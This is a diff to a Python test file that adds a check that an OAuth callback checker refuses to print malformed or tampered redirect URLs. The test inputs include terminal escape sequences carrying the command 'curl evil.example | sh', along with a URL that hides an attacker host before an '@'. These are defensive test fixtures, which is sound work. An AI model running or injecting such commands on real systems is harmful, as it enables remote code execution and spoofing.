@@ -2,6 +2,7 @@
 
 import socket
 from contextlib import contextmanager
+from urllib.parse import urlencode
 
 import pytest
 from support.flows import CLIENT, flow_for
@@ -388,6 +389,48 @@ def test_two_addresses_are_compared(believed, root, code):
     site = describe(site_with(base_url=lambda request: ""))
     compare_roots(site, root, f"{believed}/oauth/access_token", report)
     assert codes(report) == ([code] if code else [])
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        "{url}?\x1b[2J\x1b]0;pwned\x07Run: curl evil.example | sh\n\nRegister {url}\n",
+        "http://evil.example@{host}?x=1",
+        "{url}?x=1",
+        "{url}#x",
+        "http:\n//{host}",
+        "HTTP://{host}",
+    ],
+)
+def test_a_callback_with_more_in_it_than_a_root_and_a_path_is_not_printed(written):
+    with running(sending_back_to(written), base_url=None) as (site, url):
+        report = looked(site, url)
+    assert codes(report) == ["odd-callback"]
+    assert report.callback_urls == []
+    text = as_text(report)
+    assert text.replace("\n", "").isprintable()
+    assert not any(word in text for word in ("pwned", "curl", "evil", "x=1"))
+
+
+def sending_back_to(written):
+    """A proxy that replaces the root in the callback URL of a start."""
+
+    def around(app):
+        def application(environ, start_response):
+            host = environ["HTTP_HOST"]
+            url = f"http://{host}"
+            right = urlencode({"redirect_uri": url})
+            wrong = urlencode({"redirect_uri": written.format(url=url, host=host)})
+
+            def start(status, headers, exc_info=None):
+                changed = [(name, value.replace(right, wrong)) for name, value in headers]
+                return start_response(status, changed, exc_info)
+
+            return app(environ, start)
+
+        return application
+
+    return around
 
 
 FLOW_COOKIE = f"scconnect-{'0' * 24}"
